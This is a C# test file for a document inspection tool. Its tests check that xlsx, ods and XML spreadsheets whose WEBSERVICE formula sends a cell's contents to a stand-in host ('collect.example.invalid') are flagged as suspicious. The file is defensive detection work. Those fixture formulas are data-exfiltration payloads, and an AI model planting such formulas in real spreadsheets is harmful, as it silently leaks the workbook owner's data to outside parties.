using System.Text;
using Vigie.Inspection.Tests.Samples;

namespace Vigie.Inspection.Tests.Office;

/// <summary>WEBSERVICE fetches its URL whenever a sheet is computed: a workbook can send what its cells hold anywhere.</summary>
public sealed class WebServiceFormulaTests
{
    [Fact]
    public async Task Regression_a_workbook_whose_formula_sends_cells_to_a_url_by_webservice_was_clean()
    {
        var xlsx = OoxmlBuilder.Excel("<sheetData><row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>DUPONT</t></is></c>"
            + "<c r=\"B1\" t=\"str\"><f>_xlfn.WEBSERVICE(\"https://collect.example.invalid/?q=\"&amp;A1)</f><v></v></c></row></sheetData>").Build();
        var verdict = await TestInspection.InspectAsync(xlsx, "resultats.xlsx");
        Assert.Contains("WEBSERVICE", verdict.Has("office.external-relationship").Message, StringComparison.Ordinal);
        verdict.IsSuspicious();

        var ods = new ZipBuilder()
            .Add("mimetype", "application/vnd.oasis.opendocument.spreadsheet", deflate: false)
            .Add("content.xml", "<?xml version=\"1.0\"?><office:document-content xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\" "
                + "xmlns:table=\"urn:oasis:names:tc:opendocument:xmlns:table:1.0\"><office:body><office:spreadsheet><table:table table:name=\"S\"><table:table-row>"
                + "<table:table-cell table:formula=\"of:=WEBSERVICE(&quot;https://collect.example.invalid/?q=&quot;&amp;[.A1])\"/></table:table-row></table:table>"
                + "</office:spreadsheet></office:body></office:document-content>")
            .Build();
        (await TestInspection.InspectAsync(ods, "resultats.ods")).Has("office.external-relationship");

        var xml = "<?xml version=\"1.0\"?><Workbook xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\" xmlns:ss=\"urn:schemas-microsoft-com:office:spreadsheet\">"
            + "<Worksheet ss:Name=\"S\"><Table><Row><Cell ss:Formula=\"=WEBSERVICE(&quot;https://collect.example.invalid/&quot;&amp;RC[-1])\"/></Row></Table></Worksheet></Workbook>";
        (await TestInspection.InspectAsync(Encoding.UTF8.GetBytes(xml), "resultats.xml")).Has("office.external-relationship");
    }

    [Fact]
    public async Task Webservice_named_in_a_string_or_another_function_is_not_a_call()
    {
        var xlsx = OoxmlBuilder.Excel("<sheetData><row r=\"1\"><c r=\"A1\" t=\"str\"><f>CONCAT(\"see WEBSERVICE(\",\"x\")</f><v></v></c>"
            + "<c r=\"B1\" t=\"str\"><f>ISWEBSERVICE(A1)</f><v></v></c></row></sheetData>").Build();
        (await TestInspection.InspectAsync(xlsx, "notes.xlsx")).IsClean();
    }
}
